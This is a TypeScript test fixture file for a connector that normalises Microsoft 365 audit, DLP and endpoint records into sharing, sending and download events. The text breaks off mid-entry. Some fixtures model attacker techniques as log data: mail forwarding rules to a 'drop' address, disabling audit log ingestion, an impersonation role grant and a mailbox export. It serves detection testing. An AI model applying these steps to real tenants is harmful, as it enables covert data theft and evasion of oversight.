import type { ConnectorCase } from '../kit/connector-case.ts';
import type { VendorRecord } from '../kit/define-connector.ts';
import { BUSINESS_CASES } from './business-cases.data.ts';
import { LIST_CASES } from './list-cases.data.ts';
import { NAMED_CASES } from './named-cases.data.ts';

const FILE = 'Audit log activities, file and page activities';
const FOLDER = 'Audit log activities, folder activities';
const LIST = 'Audit log activities, SharePoint list activities';
const SHARING = 'Use sharing auditing in the audit log';
const SYNC = 'Audit log activities, synchronization activities';
const SITE = 'Audit log activities, site administration activities';
const MAILBOX = 'Manage mailbox auditing, mailbox actions';
const EXCHANGE_ADMIN = 'Audit log activities, Exchange admin activities';
const TEAMS = 'Audit log activities, Microsoft Teams activities';
const DLP = 'Office 365 Management Activity API schema, DLP schema';
const ENDPOINT = 'Office 365 Management Activity API schema, endpoint DLP';
const SCHEMA = 'Office 365 Management Activity API schema';
const TRACE = 'Message trace in Exchange Online';
const TRACKING = 'Message tracking in Exchange Server';
const GRAPH = 'Microsoft Graph security API, alert resource type';
const HUNTING = 'Advanced hunting schema and streaming API';

const TENANT = '7d1c2c0e-52a4-4c0c-9a55-3f1c4f0d8e11';
const OCCURRED_AT = Date.UTC(2026, 1, 3, 8, 15, 30);
const SITE_URL = 'https://harbor.sharepoint.com/sites/Finance/';
const GUEST = 'pia.koch_partner.example#EXT#@harbor.onmicrosoft.com';

function audit(workload: string, operation: string, more: VendorRecord = {}): VendorRecord {
  return {
    CreationTime: '2026-02-03T08:15:30',
    Id: '0b7c0f3e-1111-4a66-8d6d-08de62f0a001',
    Operation: operation,
    OrganizationId: TENANT,
    RecordType: 6,
    UserKey: 'i:0h.f|membership|10032000aa11bb22@live.com',
    UserType: 0,
    Version: 1,
    Workload: workload,
    UserId: 'Mara.Lind@harbor.example',
    ClientIP: '203.0.113.40:52114',
    ...more,
  };
}

const BUDGET = {
  ItemType: 'File',
  ListItemUniqueId: '3f2a9d10-2222-4c11-9f21-6d1e5a2b7c01',
  ObjectId: `${SITE_URL}Shared Documents/Plans/Budget 2026.xlsx`,
  SiteUrl: SITE_URL,
  SourceFileExtension: 'xlsx',
  SourceFileName: 'Budget 2026.xlsx',
  SourceRelativeUrl: 'Shared Documents/Plans',
  EventSource: 'SharePoint',
};

function file(operation: string, more: VendorRecord = {}): VendorRecord {
  return audit('SharePoint', operation, { ...BUDGET, ...more });
}

function drive(operation: string, more: VendorRecord = {}): VendorRecord {
  return audit('OneDrive', operation, { ...BUDGET, ...more });
}

function target(name: string, type: string): VendorRecord {
  return { RecordType: 14, TargetUserOrGroupName: name, TargetUserOrGroupType: type };
}

const MAILBOX_FACTS = {
  ClientIPAddress: '203.0.113.40',
  ClientInfoString: 'Client=OWA;Action=ViaProxy',
  LogonType: 0,
  LogonUserSid: 'S-1-5-21-100-200-300-4001',
  MailboxGuid: '9a9a9a9a-3333-4b4b-8c8c-121212121212',
  MailboxOwnerUPN: 'Mara.Lind@harbor.example',
  OrganizationName: 'harbor.onmicrosoft.com',
  OriginatingServer: 'AM0PR01MB0001 (198.51.100.7)\r\n',
};

function mailbox(operation: string, more: VendorRecord = {}): VendorRecord {
  return audit('Exchange', operation, { RecordType: 2, ...MAILBOX_FACTS, ...more });
}

function command(operation: string, parameters: Readonly<Record<string, string>>): VendorRecord {
  return audit('Exchange', operation, {
    RecordType: 1,
    ResultStatus: 'True',
    ObjectId: 'harbor.onmicrosoft.com\\Mara Lind',
    Parameters: Object.entries(parameters).map(([Name, Value]) => ({ Name, Value })),
  });
}

const MESSAGE = {
  Item: {
    Id: 'RgAAAAB1',
    InternetMessageId: '<m1@mail.harbor.example>',
    Subject: 'Offer',
    SizeInBytes: 20480,
    ParentFolder: { Id: 'LgAAAAB1', Path: '\\Drafts' },
    Attachments: 'offer.pdf (18000b)',
  },
};

function teams(operation: string, more: VendorRecord = {}): VendorRecord {
  return audit('MicrosoftTeams', operation, { RecordType: 25, TeamName: 'Tender', ...more });
}

const POLICY = {
  RecordType: 13,
  UserId: 'DlpAgent',
  UserKey: 'DlpAgent',
  UserType: 4,
  PolicyDetails: [
    {
      PolicyId: 'p1',
      PolicyName: 'Payment data',
      Rules: [
        {
          RuleId: 'r1',
          RuleName: 'Card numbers leave by mail',
          Severity: 'Medium',
          Actions: ['NotifyUser'],
          ConditionsMatched: {
            SensitiveInformation: [{ SensitiveInformationTypeName: 'Credit card number' }],
          },
        },
      ],
    },
  ],
};
const DLP_MESSAGE = {
  From: 'mara.lind@harbor.example',
  To: ['Buyer@Shop.example'],
  CC: ['ole.berg@harbor.example'],
  BCC: [],
  Subject: 'Cards',
  MessageID: '<m2@mail.harbor.example>',
};

function endpoint(operation: string, more: VendorRecord = {}): VendorRecord {
  return audit('Endpoint', operation, {
    RecordType: 63,
    ObjectId: 'C:\\Users\\mara\\Documents\\plan.docx',
    DeviceName: 'HB-LT-017',
    MDATPDeviceId: 'd0d0d0d0',
    Application: 'msedge.exe',
    FileSize: 5120,
    Sha256: 'AB'.repeat(32),
    ...more,
  });
}

const TRACE_ROW = {
  Organization: 'harbor.onmicrosoft.com',
  MessageId: '<m3@mail.harbor.example>',
  Received: '2026-02-03T08:15:30.0000000',
  SenderAddress: 'Mara.Lind@harbor.example',
  RecipientAddress: 'Buyer@shop.example',
  Subject: 'Price list',
  Status: 'Delivered',
  ToIP: null,
  FromIP: '203.0.113.40',
  Size: 48000,
  MessageTraceId: 'aa11',
};

function hunting(table: string, properties: VendorRecord): VendorRecord {
  return {
    time: '2026-02-03T08:20:00.0000000Z',
    tenantId: TENANT,
    operationName: 'Publish',
    category: `AdvancedHunting-${table}`,
    properties: { Timestamp: '2026-02-03T08:15:30.0000000Z', ...properties },
  };
}

/** A line of the tracking log: the columns up to the sender, then the return path. */
function tracking(event: string, sender: string, recipients: string): string {
  const start = '2026-02-03T08:15:30.000Z,192.0.2.10,client,192.0.2.20,HBX01,,Default HBX01,SMTP';
  const message = `${event},17,<m4@mail.harbor.example>,n1,${recipients},250 2.1.5,7001,1,,`;
  return `${start},${message},"Minutes, final",${sender},${sender},,Originating,,,,,Email,log-1,15.02`;
}

const ALERT_EVIDENCE = [
  {
    '@odata.type': '#microsoft.graph.security.deviceEvidence',
    mdeDeviceId: 'd0d0d0d0',
    deviceDnsName: 'HB-LT-017.harbor.example',
    osPlatform: 'Windows11',
    onboardingStatus: 'onboarded',
  },
  {
    '@odata.type': '#microsoft.graph.security.userEvidence',
    userAccount: {
      accountName: 'mara',
      domainName: 'HARBOR',
      userPrincipalName: 'mara.lind@harbor.example',
    },
  },
  {
    '@odata.type': '#microsoft.graph.security.fileEvidence',
    detectionStatus: 'prevented',
    fileDetails: {
      fileName: 'tool.exe',
      filePath: 'C:\\Temp',
      fileSize: 900,
      sha256: 'cd'.repeat(32),
    },
  },
];
const GRAPH_ALERT = {
  id: 'da1',
  tenantId: TENANT,
  title: 'Unwanted tool was blocked',
  category: 'UnwantedSoftware',
  severity: 'medium',
  status: 'new',
  serviceSource: 'microsoftDefenderForEndpoint',
  createdDateTime: '2026-02-03T08:10:00Z',
  lastUpdateDateTime: '2026-02-03T08:15:30Z',
  evidence: ALERT_EVIDENCE,
};

const FILE_CASES: readonly ConnectorCase[] = [
  {
    operation: 'FileDownloaded',
    source: FILE,
    record: file('FileDownloaded', { IsManagedDevice: false, FileSizeBytes: 4096 }),
    expect: {
      source: 'SharePoint',
      stream: 'audit',
      action: 'Download',
      movement: 'download',
      occurredAt: OCCURRED_AT,
      'actor.email': 'mara.lind@harbor.example',
      'actor.id': 'Mara.Lind@harbor.example',
      'actor.name': 'Mara.Lind',
      'network.sourceIp': '203.0.113.40',
      'device.managed': 'no',
      'object.name': 'Budget 2026.xlsx',
      'object.path': 'Shared Documents/Plans/Budget 2026.xlsx',
      'object.directory': 'Shared Documents/Plans',
      'object.sizeBytes': 4096,
      'origin.host': 'harbor.sharepoint.com',
      'destination.kind': 'device',
    },
  },
  {
    operation: 'FileUploaded',
    source: FILE,
    record: drive('FileUploaded', { IsManagedDevice: true }),
    expect: { source: 'OneDrive', action: 'Upload', movement: 'upload', 'device.managed': 'yes' },
  },
  {
    operation: 'FileAccessed',
    source: FILE,
    record: file('FileAccessed'),
    expect: { action: 'View', movement: 'none', 'object.kind': 'file', 'object.extension': 'xlsx' },
  },
  {
    operation: 'FilePreviewed',
    source: FILE,
    record: file('FilePreviewed', { UserAgent: 'OneDriveMpc-Transform_Thumbnail/1.0' }),
    expect: { action: 'View', 'network.userAgent': 'OneDriveMpc-Transform_Thumbnail/1.0' },
  },
  {
    operation: 'PageViewed',
    source: FILE,
    record: audit('SharePoint', 'PageViewed', {
      ItemType: 'Page',
      ObjectId: `${SITE_URL}SitePages/Home.aspx?web=1`,
    }),
    expect: { action: 'View', 'object.name': 'Home.aspx', 'object.extension': 'aspx' },
  },
  {
    operation: 'FileCopied',
    source: FILE,
    record: file('FileCopied', {
      DestinationRelativeUrl: 'Archive',
      DestinationFileName: 'B.xlsx',
    }),
    expect: {
      action: 'Copy',
      movement: 'copy',
      'destination.container': 'Archive',
      'extra.destinationFile': 'B.xlsx',
      'lineage.target.path': 'Archive/B.xlsx',
    },
  },
  {
    operation: 'FileRenamed',
    source: FILE,
    record: file('FileRenamed', { DestinationFileName: 'Old.xlsx' }),
    expect: { action: 'Rename', movement: 'none', 'object.name': 'Budget 2026.xlsx' },
  },
  { operation: 'FileMoved', source: FILE, record: file('FileMoved'), expect: { action: 'Rename' } },
  {
    operation: 'FileModified',
    source: FILE,
    record: file('FileModified'),
    expect: { action: null, movement: 'none', outcome: 'success' },
  },
  { operation: 'FileDeleted', source: FILE, record: file('FileDeleted'), expect: { action: null } },
  {
    operation: 'FileRestored',
    source: FILE,
    record: file('FileRestored'),
    expect: { action: null },
  },
  {
    operation: 'FileRecycled',
    source: FILE,
    record: file('FileRecycled'),
    expect: { action: null },
  },
  {
    operation: 'FileMalwareDetected',
    source: FILE,
    record: drive('FileMalwareDetected', {
      UserId: 'unknown reader',
      UserKey: 'S-1-5-21-1-2-3',
      UserType: 4,
      SHA256Hash: 'EF'.repeat(32),
      VirusInfo: 'Test/File',
    }),
    expect: {
      'actor.kind': 'system',
      'actor.id': 'S-1-5-21-1-2-3',
      'object.sha256': 'ef'.repeat(32),
      'extra.malware': 'Test/File',
    },
  },
  {
    operation: 'FileSensitivityLabelChanged',
    source: FILE,
    record: file('FileSensitivityLabelChanged', { SensitivityLabelId: 'label-1' }),
    expect: { action: null, 'extra.sensitivityLabel': 'label-1' },
  },
  {
    operation: 'FolderModified',
    source: FOLDER,
    record: audit('OneDrive', 'FolderModified', {
      ItemType: 'Folder',
      ObjectId: `${SITE_URL}Documents`,
      SourceFileName: 'Documents',
      SourceRelativeUrl: '',
    }),
    expect: { 'object.kind': 'folder', 'object.name': 'Documents', 'object.extension': null },
  },
  {
    operation: 'FolderMoved',
    source: FOLDER,
    record: file('FolderMoved'),
    expect: { action: 'Rename' },
  },
  {
    operation: 'ListViewed',
    source: LIST,
    record: audit('SharePoint', 'ListViewed', { ItemType: 'List', ListTitle: 'Suppliers' }),
    expect: { action: 'View', 'object.name': 'Suppliers' },
  },
  {
    operation: 'ListItemCreated',
    source: LIST,
    record: audit('SharePoint', 'ListItemCreated', { ItemType: 'ListItem' }),
    expect: { action: null, 'object.kind': 'other' },
  },
  {
    operation: 'FileSyncDownloadedFull',
    source: SYNC,
    record: file('FileSyncDownloadedFull'),
    expect: { action: 'Download', movement: 'download' },
  },
  {
    operation: 'FileSyncUploadedFull',
    source: SYNC,
    record: file('FileSyncUploadedFull'),
    expect: { action: 'Upload', movement: 'upload', 'destination.name': 'SharePoint' },
  },
  {
    operation: 'UnmanagedSyncClientBlocked',
    source: SYNC,
    record: audit('SharePoint', 'UnmanagedSyncClientBlocked'),
    expect: { action: null, movement: 'none' },
  },
  {
    operation: 'SiteCollectionCreated',
    source: SITE,
    record: audit('SharePoint', 'SiteCollectionCreated', { ItemType: 'Site', ObjectId: SITE_URL }),
    expect: { 'object.kind': 'site', 'object.url': SITE_URL, 'object.name': null },
  },
  {
    operation: 'SiteCollectionAdminAdded',
    source: SITE,
    record: audit('SharePoint', 'SiteCollectionAdminAdded', target(GUEST, 'Member')),
    expect: { action: 'Share', 'recipients.0.address': 'pia.koch@partner.example' },
  },
];

const SHARING_CASES: readonly ConnectorCase[] = [
  {
    operation: 'SharingSet',
    source: SHARING,
    record: file('SharingSet', { ...target(GUEST, 'Guest'), EventData: '<Type>Edit</Type>' }),
    expect: {
      action: 'Share',
      movement: 'share',
      visibilityAfter: 'external',
      recipients: [
        {
          kind: 'person',
          address: 'pia.koch@partner.example',
          domain: 'partner.example',
          outside: 'yes',
        },
      ],
      'extra.eventData': '<Type>Edit</Type>',
    },
  },
  {
    operation: 'SharingSet (member)',
    source: SHARING,
    record: file('SharingSet', target('ole.berg@harbor.example', 'Member')),
    expect: { 'recipients.0.outside': 'no', visibilityAfter: null },
  },
  {
    operation: 'SharingSet (link group)',
    source: SHARING,
    record: file('SharingSet', target('SharingLinks.3f2a.AnonymousEdit.77', 'SharePointGroup')),
    expect: { 'recipients.0.kind': 'link', visibilityAfter: 'link' },
  },
  {
    operation: 'SharingSet (everyone inside)',
    source: SHARING,
    record: file('SharingSet', target('Everyone except external users', 'SecurityGroup')),
    expect: {
      'recipients.0.kind': 'group',
      'recipients.0.outside': 'no',
      visibilityAfter: 'internal',
    },
  },
  {
    operation: 'AnonymousLinkCreated',
    source: SHARING,
    record: file('AnonymousLinkCreated', { RecordType: 14, UniqueSharingId: 's1' }),
    expect: {
      action: 'Share',
      visibilityAfter: 'link',
      recipients: [{ kind: 'link', address: null, domain: null, outside: 'yes' }],
      'extra.sharingId': 's1',
    },
  },
  {
    operation: 'AnonymousLinkUpdated',
    source: SHARING,
    record: drive('AnonymousLinkUpdated'),
    expect: { action: 'Share', visibilityAfter: 'link' },
  },
  {
    operation: 'AnonymousLinkUsed',
    source: SHARING,
    record: drive('AnonymousLinkUsed', { UserId: 'anonymous', UserKey: 'anonymous' }),
    expect: {
      action: 'View',
      movement: 'none',
      visibilityAfter: 'link',
      'actor.kind': 'anonymous',
    },
  },
  {
    operation: 'AnonymousLinkRemoved',
    source: SHARING,
    record: drive('AnonymousLinkRemoved'),
    expect: { action: null, visibilityBefore: 'link', visibilityAfter: null },
  },
  {
    operation: 'CompanyLinkCreated',
    source: SHARING,
    record: file('CompanyLinkCreated'),
    expect: { action: 'Share', visibilityAfter: 'internal', 'recipients.0.outside': 'no' },
  },
  {
    operation: 'SecureLinkCreated',
    source: SHARING,
    record: file('SecureLinkCreated'),
    expect: { action: 'Share', recipients: [], visibilityAfter: null },
  },
  {
    operation: 'AddedToSecureLink',
    source: SHARING,
    record: file('AddedToSecureLink', target('buyer@shop.example', 'Guest')),
    expect: { 'recipients.0.domain': 'shop.example', visibilityAfter: 'external' },
  },
  {
    operation: 'SharingInvitationCreated',
    source: SHARING,
    record: file('SharingInvitationCreated', target('buyer@shop.example', 'Guest')),
    expect: { action: 'Share', movement: 'share', visibilityAfter: 'external' },
  },
  {
    operation: 'SharingInvitationAccepted',
    source: SHARING,
    record: file('SharingInvitationAccepted', {
      ...target(GUEST, 'Guest'),
      UserId: 'urn:spo:guest#pia.koch@partner.example',
    }),
    expect: { action: 'Share', 'actor.email': 'pia.koch@partner.example', 'actor.kind': 'person' },
  },
  {
    operation: 'AddedToGroup',
    source: SHARING,
    record: audit('SharePoint', 'AddedToGroup', {
      ...target('Finance owners', 'SecurityGroup'),
      EventData: '<Group>Site Owners</Group>',
      UserId: 'app@sharepoint',
    }),
    expect: {
      action: 'Share',
      targetGroup: 'Site Owners',
      'actor.kind': 'service',
      'recipients.0.address': 'finance owners',
      'recipients.0.outside': 'unknown',
    },
  },
  {
    operation: 'RemovedFromGroup',
    source: SHARING,
    record: audit('SharePoint', 'RemovedFromGroup', target('ole.berg@harbor.example', 'Member')),
    expect: { action: null, targetUser: 'ole.berg@harbor.example', recipients: [] },
  },
  {
    operation: 'SharingInheritanceBroken',
    source: SHARING,
    record: drive('SharingInheritanceBroken', { ItemType: 'Folder' }),
    expect: { action: null, movement: 'none' },
  },
  {
    operation: 'SharingPolicyChanged',
    source: SHARING,
    record: audit('SharePoint', 'SharingPolicyChanged', { UserId: 'Microsoft\\ServiceOperator' }),
    expect: { action: null, 'actor.kind': 'service' },
  },
  {
    operation: 'AccessRequestApproved',
    source: SHARING,
    record: file('AccessRequestApproved', target('ole.berg@harbor.example', 'Member')),
    expect: { action: 'Share', 'recipients.0.address': 'ole.berg@harbor.example' },
  },
];

const MAILBOX_CASES: readonly ConnectorCase[] = [
  {
    operation: 'Send',
    source: MAILBOX,
    record: mailbox('Send', { Item: { ...MESSAGE.Item, Recipients: ['Buyer@shop.example'] } }),
    expect: {
      source: 'Exchange',
      action: 'Send',
      movement: 'send',
      mail: {
        from: 'mara.lind@harbor.example',
        to: ['buyer@shop.example'],
        subject: 'Offer',
        messageId: '<m1@mail.harbor.example>',
      },
      'recipients.0.domain': 'shop.example',
      'object.kind': 'message',
      'object.sizeBytes': 20480,
      'network.destinationIp': '198.51.100.7',
      'extra.attachments': 'offer.pdf (18000b)',
    },
  },
  {
    operation: 'SendAs',
    source: MAILBOX,
    record: mailbox('SendAs', { ...MESSAGE, SendAsUserSmtp: 'Sales@harbor.example' }),
    expect: { action: 'Send', 'mail.from': 'sales@harbor.example' },
  },
  {
    operation: 'SendOnBehalf',
    source: MAILBOX,
    record: mailbox('SendOnBehalf', { ...MESSAGE, SendOnBehalfOfUserSmtp: 'boss@harbor.example' }),
    expect: { action: 'Send', 'mail.from': 'boss@harbor.example' },
  },
  {
    operation: 'MailItemsAccessed',
    source: MAILBOX,
    record: mailbox('MailItemsAccessed', {
      RecordType: 50,
      UserId: 'mail app',
      OperationProperties: [{ Name: 'MailAccessType', Value: 'Bind' }],
      Folders: [{ Path: '\\Inbox', FolderItems: [{ InternetMessageId: '<m9@shop.example>' }] }],
    }),
    expect: {
      action: 'View',
      movement: 'none',
      destinationUser: 'mara.lind@harbor.example',
      'actor.id': 'S-1-5-21-100-200-300-4001',
      'object.id': '<m9@shop.example>',
      'extra.mailAccess': 'Bind',
    },
  },
  {
    operation: 'HardDelete',
    source: MAILBOX,
    record: mailbox('HardDelete', {
      RecordType: 3,
      AffectedItems: [{ Subject: 'Old', InternetMessageId: '<m5@shop.example>' }],
    }),
    expect: { action: null, 'object.name': 'Old', 'actor.id': 'Mara.Lind@harbor.example' },
  },
  {
    operation: 'SoftDelete',
    source: MAILBOX,
    record: mailbox('SoftDelete'),
    expect: { action: null },
  },
  {
    operation: 'ModifyFolderPermissions',
    source: MAILBOX,
    record: mailbox('ModifyFolderPermissions', {
      UserId: 'S-1-5-18',
      UserKey: 'S-1-5-18',
      Item: { ParentFolder: { Path: '\\Calendar', MemberUpn: 'Anonymous' } },
    }),
    expect: { action: 'Share', 'actor.kind': 'system', 'recipients.0.kind': 'public' },
  },
  {
    operation: 'UpdateInboxRules',
    source: MAILBOX,
    record: mailbox('UpdateInboxRules', {
      OperationProperties: [
        {
          Name: 'RuleActions',
          Value: '[{"ActionType":"Forward","Recipients":["drop@mail.example"]}]',
        },
      ],
    }),
    expect: {
      action: 'Send',
      movement: 'send',
      'recipients.0.address': 'drop@mail.example',
      'extra.forwarding': 'rule',
    },
  },
  {
    operation: 'MipLabel',
    source: SCHEMA,
    record: audit('Exchange', 'MipLabel', {
      ItemName: 'Plan',
      LabelName: 'Internal',
      Receivers: ['Ole.Berg@harbor.example'],
      Sender: 'mara.lind@harbor.example',
    }),
    expect: {
      action: null,
      'mail.subject': 'Plan',
      'mail.to': ['ole.berg@harbor.example'],
      'extra.label': 'Internal',
    },
  },
  {
    operation: 'AttachmentReview',
    source: SCHEMA,
    record: audit('Exchange', 'AttachmentReview', {
      ResultStatus: 'Failure',
      Sender: 'a@b.example',
    }),
    expect: { outcome: 'failure', action: null },
  },
];

const COMMAND_CASES: readonly ConnectorCase[] = [
  {
    operation: 'New-InboxRule',
    source: EXCHANGE_ADMIN,
    record: command('New-InboxRule', {
      Name: 'Invoices',
      ForwardTo: '"Drop" [SMTP:Drop@mail.example];second@mail.example',
    }),
    expect: {
      action: 'Send',
      movement: 'send',
      'object.kind': 'setting',
      'object.name': 'Invoices',
      'recipients.0.address': 'drop@mail.example',
      'recipients.1.address': 'second@mail.example',
      'extra.forwarding': 'rule',
    },
  },
  {
    operation: 'New-InboxRule (no forwarding)',
    source: EXCHANGE_ADMIN,
    record: command('New-InboxRule', {
      Name: 'Tidy',
      MoveToFolder: 'Archive',
      From: 'a@b.example',
    }),
    expect: { action: null, movement: 'none', recipients: [] },
  },
  {
    operation: 'Set-InboxRule',
    source: EXCHANGE_ADMIN,
    record: command('Set-InboxRule', { RedirectTo: 'smtp:drop@mail.example' }),
    expect: { 'extra.forwarding': 'rule', 'recipients.0.domain': 'mail.example' },
  },
  {
    operation: 'Set-Mailbox',
    source: EXCHANGE_ADMIN,
    record: command('Set-Mailbox', {
      Identity: 'Mara Lind',
      ForwardingSmtpAddress: 'smtp:Mara@mail.example',
      DeliverToMailboxAndForward: 'True',
    }),
    expect: {
      action: 'Send',
      'object.kind': 'mailbox',
      'object.name': 'Mara Lind',
      'recipients.0.address': 'mara@mail.example',
      'extra.forwarding': 'mailbox',
    },
  },
  {
    operation: 'Set-Mailbox (forwarding removed)',
    source: EXCHANGE_ADMIN,
    record: command('Set-Mailbox', { Identity: 'Mara Lind', ForwardingSmtpAddress: '' }),
    expect: { action: null, movement: 'none', recipients: [] },
  },
  {
    operation: 'New-TransportRule',
    source: EXCHANGE_ADMIN,
    record: command('New-TransportRule', { Name: 'Copy', BlindCopyTo: 'drop@mail.example' }),
    expect: { movement: 'send', 'extra.forwarding': 'transport' },
  },
  {
    operation: 'Set-TransportRule',
    source: EXCHANGE_ADMIN,
    record: command('Set-TransportRule', { RedirectMessageTo: 'drop@mail.example' }),
    expect: { movement: 'send', 'extra.forwarding': 'transport' },
  },
  {
    operation: 'Add-MailboxPermission',
    source: EXCHANGE_ADMIN,
    record: command('Add-MailboxPermission', {
      Identity: 'Mara Lind',
      User: 'ole.berg@harbor.example',
      AccessRights: 'FullAccess',
    }),
    expect: {
      action: 'Share',
      movement: 'share',
      'recipients.0.address': 'ole.berg@harbor.example',
    },
  },
  {
    operation: 'Add-RecipientPermission',
    source: EXCHANGE_ADMIN,
    record: command('Add-RecipientPermission', { Trustee: 'harbor.onmicrosoft.com/Sales Team' }),
    expect: { action: 'Share', 'recipients.0.kind': 'group', 'recipients.0.address': 'sales team' },
  },
  {
    operation: 'Remove-MailboxPermission',
    source: EXCHANGE_ADMIN,
    record: command('Remove-MailboxPermission', { User: 'ole.berg@harbor.example' }),
    expect: { action: null, recipients: [] },
  },
  {
    operation: 'Set-AdminAuditLogConfig',
    source: EXCHANGE_ADMIN,
    record: {
      ...command('Set-AdminAuditLogConfig', {}),
      UserId: 'NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)',
      UserType: 3,
      Parameters: '-UnifiedAuditLogIngestionEnabled "False"',
    },
    expect: { action: null, 'actor.kind': 'system', 'object.kind': 'setting' },
  },
  {
    operation: 'New-ManagementRoleAssignment',
    source: EXCHANGE_ADMIN,
    record: {
      ...command('New-ManagementRoleAssignment', {
        Role: 'ApplicationImpersonation',
        User: 'svc-sync@harbor.example',
      }),
      ObjectId: 'ApplicationImpersonation-svc-sync',
    },
    expect: {
      action: null,
      'object.name': 'ApplicationImpersonation-svc-sync',
      'extra.role': 'ApplicationImpersonation',
    },
  },
  {
    operation: 'New-MailboxExportRequest',
    source: EXCHANGE_ADMIN,
    record: command('New-MailboxExportRequest', { Mailbox: 'mara' }),
    expect: { action: 'Download', movement: 'download' },
  },
];

const TEAMS_CASES: readonly ConnectorCase[] = [
  {
    operation: 'MemberAdded',
    source: TEAMS,
    record: teams('MemberAdded', {
      TeamGuid: '19:x@thread.tacv2',
      Members: [{ UPN: GUEST, Role: 0 }],
    }),
    expect: {
      source: 'Microsoft Teams',
      action: 'Share',
      targetGroup: 'Tender',
      'object.kind': 'channel',
      'recipients.0.address': 'pia.koch@partner.example',
      'recipients.0.outside': 'yes',
      visibilityAfter: 'external',
    },
  },
  {
    operation: 'MemberRemoved',
    source: TEAMS,
    record: teams('MemberRemoved', { Members: [{ UPN: 'ole.berg@harbor.example' }] }),
    expect: { action: null, targetUser: 'ole.berg@harbor.example', recipients: [] },
  },
  {
    operation: 'MessageSent',
    source: TEAMS,
    record: teams('MessageSent', { MessageId: '17', ChannelName: 'Offers' }),
    expect: { action: 'Send', movement: 'send', 'object.kind': 'message', 'object.id': '17' },
  },
  {
    operation: 'MessageCreatedHasLink',
    source: TEAMS,
    record: teams('MessageCreatedHasLink', { MessageURLs: ['https://share.example/x'] }),
    expect: { action: 'Send', 'object.url': 'https://share.example/x' },
  },
  {
    operation: 'ChatCreated',
    source: TEAMS,
    record: teams('ChatCreated', {
      ChatThreadId: '19:chat',
      Members: [
        { UPN: 'mara.lind@harbor.example', OrganizationId: TENANT },
        { UPN: 'buyer@shop.example', OrganizationId: 'ffffffff-0000-4000-8000-000000000001' },
      ],
      ExtraProperties: [{ Key: 'OsName', Value: 'windows' }],
    }),
    expect: {
      action: 'Send',
      recipients: [
        { kind: 'person', address: 'buyer@shop.example', domain: 'shop.example', outside: 'yes' },
      ],
      'object.id': '19:chat',
      'device.os': 'windows',
    },
  },
  {
    operation: 'TeamCreated',
    source: TEAMS,
    record: teams('TeamCreated'),
    expect: { action: null },
  },
  {
    operation: 'ChannelAdded',
    source: TEAMS,
    record: teams('ChannelAdded'),
    expect: { action: null },
  },
  {
    operation: 'MessageRead',
    source: TEAMS,
    record: teams('MessageRead'),
    expect: { action: 'View' },
  },
  {
    operation: 'RecordingExported',
    source: TEAMS,
    record: teams('RecordingExported'),
    expect: { action: 'Download', movement: 'download' },
  },
];

const POLICY_CASES: readonly ConnectorCase[] = [
  {
    operation: 'DlpRuleMatch',
    source: DLP,
    record: audit('Exchange', 'DlpRuleMatch', { ...POLICY, ExchangeMetaData: DLP_MESSAGE }),
    expect: {
      action: 'Send',
      movement: 'send',
      outcome: 'success',
      vendorRule: 'Card numbers leave by mail',
      vendorSeverity: 'Medium',
      'actor.email': 'mara.lind@harbor.example',
      'mail.to': ['buyer@shop.example', 'ole.berg@harbor.example'],
      'recipients.0.domain': 'shop.example',
      'extra.sensitiveTypes': 'Credit card number',
    },
  },
  {
    operation: 'DlpRuleMatch (blocked)',
    source: DLP,
    record: audit('Exchange', 'DlpRuleMatch', {
      ...POLICY,
      PolicyDetails: [
        { Rules: [{ RuleName: 'Block', Severity: 'High', Actions: ['BlockAccess'] }] },
      ],
      ExchangeMetaData: DLP_MESSAGE,
    }),
    expect: { outcome: 'failure', vendorSeverity: 'High', 'extra.enforcement': 'blocked' },
  },
  {
    operation: 'DlpRuleMatch (overridden)',
    source: DLP,
    record: audit('Exchange', 'DlpRuleMatch', {
      ...POLICY,
      PolicyDetails: [
        { Rules: [{ RuleName: 'Block', Severity: 'High', Actions: ['BlockAccess'] }] },
      ],
      ExceptionInfo: '{ "Justification": "The auditor asked for it" }',
      ExchangeMetaData: DLP_MESSAGE,
    }),
    expect: {
      outcome: 'success',
      'extra.enforcement': 'overridden',
      'extra.justification': 'The auditor asked for it',
    },
  },
  {
    operation: 'DlpRuleMatch (reported as wrong)',
    source: DLP,
    record: audit('Exchange', 'DlpRuleMatch', {
      ...POLICY,
      ExceptionInfo: { FalsePositive: true },
      ExchangeMetaData: DLP_MESSAGE,
    }),
    expect: { 'extra.enforcement': 'overridden' },
  },
  {
    operation: 'DlpRuleUndo',
    source: DLP,
    record: audit('SharePoint', 'DlpRuleUndo', {
      ...POLICY,
      SharePointMetaData: {
        From: 'mara.lind@harbor.example',
        FileName: 'cards.docx',
        FileOwner: 'Mara Lind',
        FilePathUrl: `${SITE_URL}cards.docx`,
        UniqueID: 'u1',
        IsViewableByExternalUsers: true,
      },
    }),
    expect: {
      action: null,
      movement: 'none',
      visibilityAfter: 'external',
      'object.name': 'cards.docx',
      'object.owner': 'Mara Lind',
    },
  },
  {
    operation: 'FileUploadedToCloud',
    source: ENDPOINT,
    record: endpoint('FileUploadedToCloud', { TargetDomain: 'Drop.example' }),
    expect: {
      source: 'Microsoft 365',
      action: 'Upload',
      movement: 'upload',
      'object.name': 'plan.docx',
      'object.directory': 'C:\\Users\\mara\\Documents',
      'object.sha256': 'ab'.repeat(32),
      'device.hostname': 'HB-LT-017',
      'process.name': 'msedge.exe',
      'origin.kind': 'device',
      destination: {
        kind: 'host',
        name: 'drop.example',
        host: 'drop.example',
        container: null,
        account: null,
      },
    },
  },
  {
    operation: 'FileCopiedToRemovableMedia',
    source: ENDPOINT,
    record: endpoint('FileCopiedToRemovableMedia', { TargetFilePath: 'E:\\plan.docx' }),
    expect: { action: 'CopyFile', movement: 'copy', 'destination.name': 'External Storage' },
  },
  {
    operation: 'FileCopiedToNetworkShare',
    source: ENDPOINT,
    record: endpoint('FileCopiedToNetworkShare', { TargetFilePath: '\\\\FS01\\team\\plan.docx' }),
    expect: { action: 'CopyFile', 'destination.host': 'fs01' },
  },
  {
    operation: 'FileCopiedToClipboard',
    source: ENDPOINT,
    record: endpoint('FileCopiedToClipboard'),
    expect: { action: 'Copy', destination: null },
  },
  {
    operation: 'PastedToBrowser',
    source: ENDPOINT,
    record: endpoint('PastedToBrowser', { TargetUrl: 'https://chat.example/c/1' }),
    expect: { action: 'Paste', movement: 'upload', 'destination.host': 'chat.example' },
  },
  {
    operation: 'FileArchived',
    source: ENDPOINT,
    record: endpoint('FileArchived'),
    expect: { action: 'Compress' },
  },
  {
    operation: 'AlertTriggered',
